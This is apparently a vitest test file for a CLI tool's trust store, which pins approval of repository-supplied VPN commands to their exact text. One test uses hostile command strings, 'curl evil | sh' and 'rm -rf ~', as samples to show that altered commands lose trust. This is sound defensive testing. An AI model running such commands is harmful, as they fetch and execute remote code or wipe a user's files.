import {existsSync, readFileSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import {afterEach, describe, expect, it} from 'vitest';
import type {ResolvedVpn} from '../../../source/core/config/schema.js';
import {vpnRequest} from '../../../source/core/trust/fingerprint.js';
import {trustCommandFor, untrustedMessage} from '../../../source/core/trust/messages.js';
import {TrustStore} from '../../../source/core/trust/trust-store.js';
import {tempDir} from '../../harness/index.js';

/** What `remote-sync trust` approves for these VPNs of `file`. */
function requests(file: string, vpns: ResolvedVpn[]) {
	return vpns.map(vpn => vpnRequest({...vpn, source: file})!);
}

const fingerprint = (vpn: ResolvedVpn) => vpnRequest(vpn)!.fingerprint;

function repoVpn(file: string, overrides: Partial<ResolvedVpn> = {}): ResolvedVpn {
	return {
		name: 'corp',
		connectCmd: 'wg-quick up wg0',
		disconnectCmd: 'wg-quick down wg0',
		checkCmd: 'wg show wg0',
		timeoutSeconds: 30,
		autoConnect: true,
		source: file,
		...overrides,
	};
}

describe('trust: commands from a repo config need approval', () => {
	it('trusts commands from the user\'s own config without asking', () => {
		const store = new TrustStore({cwd: tempDir()});
		expect(store.isTrusted(repoVpn('x', {source: undefined}))).toBe(true);
	});

	it('does not trust a repo config until `trust` approves it, then does, across processes', () => {
		const dir = tempDir();
		const file = path.join(tempDir('rst-repo-'), '.remotesyncrc.json');
		const vpn = repoVpn(file);
		const store = new TrustStore({cwd: dir});
		expect(store.isTrusted(vpn)).toBe(false);

		store.trust(file, requests(file, [vpn]));

		expect(store.isTrusted(vpn)).toBe(true);
		expect(new TrustStore({cwd: dir}).isTrusted(vpn)).toBe(true);
		expect(existsSync(path.join(dir, 'trust.json'))).toBe(true);
	});

	it('is pinned to the exact commands: changing any of them needs trust again', () => {
		const store = new TrustStore({cwd: tempDir()});
		const file = '/repo/.remotesyncrc.json';
		store.trust(file, requests(file, [repoVpn(file)]));

		expect(store.isTrusted(repoVpn(file, {connectCmd: 'curl evil | sh'}))).toBe(false);
		expect(store.isTrusted(repoVpn(file, {disconnectCmd: 'rm -rf ~'}))).toBe(false);
		expect(store.isTrusted(repoVpn(file, {checkCmd: 'true'}))).toBe(false);
		expect(store.isTrusted(repoVpn(file, {name: 'other'}))).toBe(false);
		// Settings that run nothing do not matter.
		expect(store.isTrusted(repoVpn(file, {timeoutSeconds: 5, autoConnect: false}))).toBe(true);
	});

	it('does not carry trust over to the same commands in another repository', () => {
		const store = new TrustStore({cwd: tempDir()});
		store.trust('/a/.remotesyncrc.json', requests('/a/.remotesyncrc.json', [repoVpn('/a/.remotesyncrc.json')]));
		expect(store.isTrusted(repoVpn('/b/.remotesyncrc.json'))).toBe(false);
	});

	it('a new `trust` of a file replaces its earlier approvals', () => {
		const store = new TrustStore({cwd: tempDir()});
		const file = '/repo/.remotesyncrc.json';
		const old = repoVpn(file);
		const changed = repoVpn(file, {connectCmd: 'wg-quick up wg1'});
		store.trust(file, requests(file, [old]));
		store.trust(file, requests(file, [changed]));
		expect(store.isTrusted(changed)).toBe(true);
		expect(store.isTrusted(old)).toBe(false);
	});

	it('treats a damaged trust file as trusting nothing, and repairs it on the next `trust`', () => {
		const dir = tempDir();
		writeFileSync(path.join(dir, 'trust.json'), '{ not json');
		const store = new TrustStore({cwd: dir});
		const vpn = repoVpn('/repo/.remotesyncrc.json');
		expect(store.isTrusted(vpn)).toBe(false);
		store.trust('/repo/.remotesyncrc.json', requests('/repo/.remotesyncrc.json', [vpn]));
		expect(new TrustStore({cwd: dir}).isTrusted(vpn)).toBe(true);
	});

	it('fingerprints are sha256 hex and differ when any pinned field differs', () => {
		const a = fingerprint(repoVpn('/r/.remotesyncrc.json'));
		expect(a).toMatch(/^[0-9a-f]{64}$/);
		expect(fingerprint(repoVpn('/r/.remotesyncrc.json'))).toBe(a);
		// Fields are kept apart: moving text from one command to the next is a change.
		const split1 = fingerprint(repoVpn('/r', {connectCmd: 'a b', disconnectCmd: 'c'}));
		const split2 = fingerprint(repoVpn('/r', {connectCmd: 'a', disconnectCmd: 'b c'}));
		expect(split1).not.toBe(split2);
	});
});

describe('trust: where approvals live', () => {
	const saved = process.env.XDG_CONFIG_HOME;
	afterEach(() => {
		if (saved === undefined) delete process.env.XDG_CONFIG_HOME;
		else process.env.XDG_CONFIG_HOME = saved;
	});

	it('defaults to $XDG_CONFIG_HOME/remote-sync/trust.json', () => {
		const xdg = tempDir('rst-xdg-');
		process.env.XDG_CONFIG_HOME = xdg;
		const store = new TrustStore();
		store.trust('/repo/.remotesyncrc.json', requests('/repo/.remotesyncrc.json', [repoVpn('/repo/.remotesyncrc.json')]));
		expect(store.path).toBe(path.join(xdg, 'remote-sync', 'trust.json'));
		expect(JSON.parse(readFileSync(store.path, 'utf8'))).toHaveProperty(['files', '/repo/.remotesyncrc.json']);
	});
});

describe('trust: the message for an untrusted VPN', () => {
	it('names the file and the exact command to run', () => {
		expect(untrustedMessage(repoVpn('/path/.remotesyncrc.json'))).toBe(
			'vpn "corp": commands from /path/.remotesyncrc.json are not trusted; review them and run: remote-sync trust',
		);
	});

	it('passes --config for a file the CLI would not find by itself', () => {
		expect(trustCommandFor('/repo/.remotesyncrc')).toBe('remote-sync trust');
		expect(trustCommandFor('/repo/remote-sync.config.json')).toBe('remote-sync trust');
		expect(trustCommandFor('/etc/team vpn.json')).toBe("remote-sync trust --config '/etc/team vpn.json'");
		expect(trustCommandFor('/etc/team.json')).toBe('remote-sync trust --config /etc/team.json');
	});
});
